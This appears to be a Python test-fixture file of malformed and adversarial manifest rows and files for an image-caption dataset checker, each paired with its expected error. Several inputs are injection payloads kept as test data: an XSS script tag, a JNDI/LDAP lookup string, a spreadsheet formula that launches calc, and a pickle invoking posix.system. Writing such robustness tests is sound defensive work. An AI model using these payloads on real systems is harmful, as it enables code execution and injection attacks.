"""Rows as the internet gives them, in every form of manifest, each with the verdict that a reader must come to."""

from __future__ import annotations

import json
from dataclasses import dataclass

OK_FILE = "ok.png"
OK = json.dumps({"image_file": OK_FILE, "text": "ok"})
_LONG = 2**20


@dataclass(frozen=True)
class RowCase:
    """One row of a manifest.

    Attributes:
        what: in words.
        text: the row, as it stands in the file.
        kind: of the fault; empty if the row is sound.
        says: what the message names, remedy included.
        is_value: whether it is one JSON value, so that it may stand in an array too.
    """

    what: str
    text: str | bytes
    kind: str = ""
    says: str = ""
    is_value: bool = True

    @property
    def content(self) -> bytes:
        """The row's bytes."""
        return self.text if isinstance(self.text, bytes) else self.text.encode()


@dataclass(frozen=True)
class FileCase:
    """A whole manifest.

    Attributes:
        what: in words.
        name: of the file, whose ending tells its form.
        content: the file.
        exit_code: of `ip-adapter check` where every row may be faulty.
        says: words of the report or the error.
    """

    what: str
    name: str
    content: bytes
    exit_code: int
    says: tuple[str, ...]


def row(image_file: object = OK_FILE, text: object = "ok", **more: object) -> str:
    """A row as JSON."""
    return json.dumps({"image_file": image_file, "text": text, **more})


def _with(rest: str) -> str:
    """A sound row with further keys, spelled as JSON that no writer would write."""
    return f"{OK[:-1]}, {rest}}}"


JSON_ROWS = [
    RowCase("a sound row", OK),
    RowCase("keys in another order", '{"text": "ok", "image_file": "ok.png"}'),
    RowCase("a column that nothing reads", row(width=3)),
    RowCase("an empty caption", row(text="")),
    RowCase("no prompt image: null", row(prompt_image_file=None)),
    RowCase("no prompt image: empty", row(prompt_image_file="")),
    RowCase("its own prompt image", row(prompt_image_file=OK_FILE)),
    RowCase("a caption in Unicode", '{"image_file": "ok.png", "text": "ünï 画像 \U0001f600 مرحبا"}'),
    RowCase("a caption in escapes", '{"image_file": "ok.png", "text": "\\u00fcn \\ud83d\\ude00"}'),
    RowCase("a caption of control characters", row(text="a\0b\x1b[31mc\u202e\nd")),
    RowCase("a caption of HTML", row(text="<script>alert(1)</script> & \"'><img src=x onerror=y>")),
    RowCase("a caption of a template", row(text="{{7*7}} ${jndi:ldap://a.b/c} %s %n =cmd|' /C calc'!A0")),
    RowCase("a long caption", row(text="word " * 20_000)),
    RowCase("null for a caption", row(text=None)),
    RowCase("several captions", row(text=["a\0b", "", None, "word " * 20_000])),
    RowCase("a number of 100,000 digits", _with('"n": ' + "9" * 100_000)),
    RowCase("a number beyond all floats", _with('"n": 1e999')),
    RowCase("a value 500 deep", _with('"n": ' + "[" * 500 + "]" * 500)),
    RowCase("unescaped slashes and escaped ones", '{"image_file": ".\\/ok.png", "text": "\\/"}'),
    RowCase("no caption", '{"image_file": "ok.png"}', "missing_column", "'text' may be empty"),
    RowCase("no picture", '{"text": "ok"}', "missing_column", "'image_file' is missing"),
    RowCase("no keys", "{}", "missing_column", "found: nothing"),
    RowCase("a misspelt column", '{"image_file": "ok.png", "txt": "x"}', "missing_column", "did you mean your 'txt'"),
    RowCase("another name for the picture", '{"image": "ok.png", "text": "x"}', "missing_column", "--image_column"),
    RowCase("a misspelt optional column", row(prompt_image="b.png"), "unknown_column", "prompt_image_file"),
    RowCase("a number for a picture", row(7), "wrong_type", "'image_file' is a number"),
    RowCase("an array for a picture", row(["ok.png"]), "wrong_type", "'image_file' is an array"),
    RowCase("an object for a caption", row(text={"en": "x"}), "wrong_type", "'text' is an object"),
    RowCase("no captions", row(text=[]), "wrong_type", "'text' is an empty array"),
    RowCase("captions in an array in an array", row(text=[["x"]]), "wrong_type", "'text' is an array that holds an"),
    RowCase("half a pair in a list", '{"image_file": "ok.png", "text": ["x", "\\udcff"]}', "bad_text", "'text'"),
    RowCase("true for a caption", row(text=True), "wrong_type", "'text' is true or false"),
    RowCase("a prompt image of zero", row(prompt_image_file=0), "wrong_type", "'prompt_image_file' is a number"),
    RowCase("an array for a row", '["ok.png", "x"]', "wrong_type", "the row is an array"),
    RowCase("a string for a row", '"ok.png"', "wrong_type", "the row is a string"),
    RowCase("null for a row", "null", "wrong_type", "the row is null"),
    RowCase("a number for a row", "-0.0", "wrong_type", "the row is a number"),
    RowCase("NaN", _with('"score": NaN'), "not_json", "NaN is no JSON value"),
    RowCase("minus infinity, deep", _with('"score": [[-Infinity]]'), "not_json", "-Infinity is no JSON value"),
    RowCase("NaN for a row", "NaN", "not_json", "NaN"),
    RowCase("a key twice", _with('"text": "y"'), "duplicate_key", "'text' is given twice"),
    RowCase("a key twice, one in escapes", _with('"t\\u0065xt": "y"'), "duplicate_key", "'text' is given twice"),
    RowCase("a key twice, deep", _with('"more": {"k": 1, "k": 1}'), "duplicate_key", "'k' is given twice"),
    RowCase("half a surrogate pair", '{"image_file": "ok.png", "text": "\\ud800"}', "bad_text", "'text'"),
    RowCase("half a pair in a name", '{"image_file": "\\udcff.png", "text": ""}', "bad_text", "'image_file'"),
    RowCase(
        "a terminal's escapes for a key", '{"image_file": "ok.png", "te\\u001b[2Jxt": ""}', "missing_column", "\\x1b"
    ),
    RowCase("a line break in a key", '{"image_file": "ok.png", "te\\nxt": ""}', "missing_column", "\\n"),
    RowCase("a key of a million letters", '{"%s": 1}' % ("k" * 10**6), "missing_column", "kkk..."),
]

LINES = [
    RowCase("an object cut short", OK[:-1], "not_json", "column 38", is_value=False),
    RowCase("a string cut short", OK[:-3], "not_json", "Unterminated", is_value=False),
    RowCase("two objects", f"{OK} {OK}", "not_json", "Text after the object", is_value=False),
    RowCase("no JSON", "image_file: ok.png", "not_json", "Expecting value (column 1)", is_value=False),
    RowCase("a comma too many", f"{OK[:-1]},}}", "not_json", "column", is_value=False),
    RowCase("single quotes", OK.replace('"', "'"), "not_json", "column 2", is_value=False),
    RowCase("a comment", f"// {OK}", "not_json", "column 1", is_value=False),
    RowCase("a word for a number", _with('"n": 0x10'), "not_json", "column", is_value=False),
    RowCase("a raw tab in a string", '{"image_file": "ok.png", "text": "a\tb"}', "not_json", "control", is_value=False),
    RowCase("100,000 arrays in one another", "[" * 100_000, "not_json", "Nested too deeply", is_value=False),
    RowCase("a line of a megabyte", row(text="x" * _LONG), "line_too_long", "1 MB", is_value=False),
    RowCase(
        "Latin-1", '{"image_file": "ok.png", "text": "é"}'.encode("latin-1"), "bad_text", "byte 35", is_value=False
    ),
    RowCase("an overlong slash", b'{"image_file": "\xc0\xaf", "text": ""}', "bad_text", "UTF-8", is_value=False),
    RowCase("a surrogate in UTF-8", b'{"image_file": "\xed\xa0\x80", "text": ""}', "bad_text", "UTF-8", is_value=False),
    RowCase("a byte order mark in the middle", b"\xef\xbb\xbf" + OK.encode(), "not_json", "column 1", is_value=False),
    RowCase("NUL bytes", b"\0\0\0\0", "not_json", "column 1", is_value=False),
]

TABLE_LINES = [
    RowCase("a sound line", "ok.png,ok"),
    RowCase("a caption in quotes", '"ok.png","a, ""b"""'),
    RowCase("a cell too few", "ok.png", "not_csv", "1 cells"),
    RowCase("a cell too many", "ok.png,a,b", "not_csv", "quotes"),
    RowCase("text after a quote", '"ok.png"x,y', "not_csv", "check its quotes"),
    RowCase("an endless cell", "ok.png," + "x" * 200_000, "not_csv", "field larger"),
    RowCase("no name", ",x", "unsafe_path", "'image_file': the path is empty"),
    RowCase("an absolute name", "/ok.png,x", "unsafe_path", "--allow_outside_root"),
    RowCase("NUL in a name", "o\0k.png,x", "unsafe_path", "NUL"),
    RowCase("not UTF-8", b"ok.png,\xff", "bad_text", "'text'"),
    RowCase("a formula", "ok.png,=cmd|' /C calc'!A0"),
]

_HEAD = b"image_file,text\n"
_TABLE = _HEAD + b"ok.png,ok\n"
_ARRAY = f"[{OK},\n{OK}]"

FILES = [
    FileCase("an array", "a.json", _ARRAY.encode(), 0, ("clean: 2 rows",)),
    FileCase("an array with a BOM", "a.json", _ARRAY.encode("utf-8-sig"), 0, ("clean: 2 rows",)),
    FileCase("lines with a BOM", "a.jsonl", OK.encode("utf-8-sig"), 0, ("clean: 1 rows",)),
    FileCase("lines that end in CR LF", "a.jsonl", f"{OK}\r\n{OK}\r\n".encode(), 0, ("clean: 2 rows",)),
    FileCase("blank lines", "a.jsonl", f"\n{OK}\n \n\t\n{OK}".encode(), 0, ("clean: 2 rows",)),
    FileCase("a table with a BOM", "a.csv", b"\xef\xbb\xbf" + _TABLE, 0, ("clean: 1 rows",)),
    FileCase(
        "a last line torn", "a.jsonl", f"{OK}\n{OK[:20]}".encode(), 0, ("a.jsonl, line 2", "column", "usable: 1 of 2")
    ),
    FileCase("a quote left open", "a.csv", _TABLE + b'ok.png,"x\nok.png,y\n', 0, ("a.csv, line 3", "quotes")),
    FileCase("UTF-16", "a.jsonl", OK.encode("utf-16"), 2, ("UTF-16", "save it as UTF-8")),
    FileCase("UTF-16 in an array", "a.json", _ARRAY.encode("utf-16"), 2, ("UTF-16", "save it as UTF-8")),
    FileCase("UTF-16 without a mark", "a.json", _ARRAY.encode("utf-16-le"), 2, ("a.json", "to do:")),
    FileCase("a table in UTF-16 without a mark", "a.csv", _TABLE.decode().encode("utf-16-le"), 2, ("line 1", "\\x00")),
    FileCase("an empty array file", "a.json", b"", 2, ("not a JSON array", "a.json", "to do:")),
    FileCase("an empty file of lines", "a.jsonl", b"", 2, ("no rows", "a.jsonl", "to do:")),
    FileCase("an empty table", "a.csv", b"", 2, ("'image_file' is missing", "line 1", "to do:")),
    FileCase("an array of no rows", "a.json", b" [ ] ", 2, ("no rows", "to do:")),
    FileCase("an object for an array", "a.json", OK.encode(), 2, ("not a JSON array", "a .jsonl file")),
    FileCase("an array cut short", "a.json", _ARRAY[:-1].encode(), 2, ("line 2, column 39 (element 2)", "to do:")),
    FileCase(
        "an array of two commas", "a.json", f"[{OK},,{OK}]".encode(), 2, ("line 1", "element 2", "Expecting value")
    ),
    FileCase("a comma at an array's end", "a.json", f"[{OK},]".encode(), 2, ("line 1", "element 2", "Expecting value")),
    FileCase("no comma in an array", "a.json", f"[{OK}{OK}]".encode(), 2, ("Expecting ','", "element 1")),
    FileCase("text after an array", "a.json", f"{_ARRAY}x".encode(), 2, ("Text after the array", "line 2")),
    FileCase("arrays in one another", "a.json", b"[" * 100_000, 2, ("Nested too deeply", "line 1")),
    FileCase("an array in Latin-1", "a.json", b'[\n"\xe9"]', 2, ("not UTF-8", "line 2")),
    FileCase("an element of 2 MB", "a.json", f"[{row(text='x' * 2 * _LONG)}]".encode(), 2, ("1 MB", "element 1")),
    FileCase(
        "an array broken early", "a.json", f"[tru,{row(text='x' * 2 * _LONG)}]".encode(), 2, ("line 1, column 2",)
    ),
    FileCase("two megabytes of blanks", "a.json", b" " * 2 * _LONG, 2, ("not a JSON array",)),
    FileCase(
        "a table without a column", "a.csv", b"image_file,txt\nok.png,x\n", 2, ("did you mean your 'txt'", "line 1")
    ),
    FileCase("a table with a column twice", "a.csv", b"image_file,text,text\n", 2, ("'text' is there twice", "line 1")),
    FileCase("a table with a misspelt column", "a.csv", b"image_file,text,prompt_image\n", 2, ("prompt_image_file",)),
    FileCase("a table between pipes", "a.csv", b"image_file|text\nok.png|x\n", 2, ("'image_file' is missing",)),
    FileCase("a table whose lines end in CR", "a.csv", _TABLE.replace(b"\n", b"\r"), 2, ("line 1", "to do:")),
    FileCase("a table with a line of 2 MB", "a.csv", _TABLE + b"x" * 2 * _LONG, 2, ("line 3", "1 MB")),
    FileCase("a terminal's escapes in a header", "a.csv", b"image_file,te\x1b[2Jxt\n", 2, ("\\x1b", "line 1")),
    FileCase("a form that is none", "a.parquet", b"PAR1", 2, ("'.parquet'", ".jsonl")),
    FileCase("a pickle", "a.pkl", b"cposix\nsystem\n(S'true'\ntR.", 2, ("'.pkl'", ".jsonl")),
]
